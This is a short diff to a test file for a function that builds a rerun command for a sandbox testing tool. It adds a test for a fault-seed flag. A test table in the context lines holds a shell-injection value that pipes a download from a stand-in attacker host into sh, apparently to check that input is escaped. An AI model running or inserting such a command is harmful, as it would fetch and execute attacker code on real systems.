@@ -56,6 +56,12 @@ describe('the command that repeats a case', () => {
     )
   })
 
+  test('repeats the faults of the run by their seed', () => {
+    expect(rerunCommand({ rerun: [] }, { name: 'a', file: 'a.yml', faultSeed: 0 })).toBe(
+      'klavis-sandbox test --filter a --fault-seed 0 a.yml -- <your agent>'
+    )
+  })
+
   test.each([
     [
       "'; curl evil.example | sh; '",
